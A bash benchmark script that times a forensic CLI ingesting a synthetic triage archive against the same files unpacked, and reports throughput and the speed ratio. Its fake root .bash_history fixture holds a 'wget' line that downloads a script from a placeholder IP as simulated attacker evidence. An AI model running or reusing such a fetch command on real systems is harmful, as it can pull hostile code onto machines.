#!/usr/bin/env bash
# Archive benchmark (issue 12): a triage tar.gz (a generated auth.log of ~SIZE_MB plus a few small
# files in a plain file-system layout) against the same files unpacked, both ingested into fresh
# cases in the same run with the Release CLI. Prints seconds, MB/s and the archive/unpacked speed
# ratio (target: >= 80 %). The archive is read without unpacking: streamed, members spooled once
# (memory up to 16 MiB, else a private 0700 temporary folder).
# Usage: bench/archive.sh [SIZE_MB]   (default 1024; ~130 bytes per generated line)
set -euo pipefail
source "$(dirname "$0")/common.sh"
size_mb=${1:-1024}
bench_setup $(( size_mb * 1024 * 1024 / 130 ))
tree="$work/archive-tree-$lines"
if [ ! -d "$tree" ]; then
  mkdir -p "$tree/var/log" "$tree/etc" "$tree/root" "$tree/home/alice/.ssh"
  cp "$log" "$tree/var/log/auth.log"
  echo "bench01" > "$tree/etc/hostname"
  printf 'id\nwget http://198.51.100.7/x.sh\n' > "$tree/root/.bash_history"
  echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBench alice@bench" > "$tree/home/alice/.ssh/authorized_keys"
  touch -d "2024-12-31 23:00:00" "$tree/var/log/auth.log"
fi
archive="$work/triage-$lines.tar.gz"
[ -f "$archive" ] || tar -C "$tree" -czf "$archive" var etc root home
bytes=$(du -sb "$tree" | cut -f1)
run() { # name path
  rm -f "$work/$1.db" "$work/$1.db.lock"
  local start end
  start=$(date +%s.%N)
  "$tl" ingest "$2" --case "$work/$1.db" > "$work/$1.out" || true
  end=$(date +%s.%N)
  echo "$end - $start" | bc -l
}
unpacked=$(run unpacked "$tree")
packed=$(run packed "$archive")
printf 'unpacked folder: %.1f MB in %.2f s = %.1f MB/s\n' "$(echo "$bytes / 1048576" | bc -l)" "$unpacked" "$(echo "$bytes / 1048576 / $unpacked" | bc -l)"
printf 'tar.gz (%.1f MB compressed): %.2f s = %.1f MB/s of content\n' "$(echo "$(stat -c %s "$archive") / 1048576" | bc -l)" "$packed" "$(echo "$bytes / 1048576 / $packed" | bc -l)"
printf 'archive speed = %.0f %% of unpacked (target >= 80 %%)\n' "$(echo "100 * $unpacked / $packed" | bc -l)"
tail -n 1 "$work/unpacked.out"
tail -n 1 "$work/packed.out"
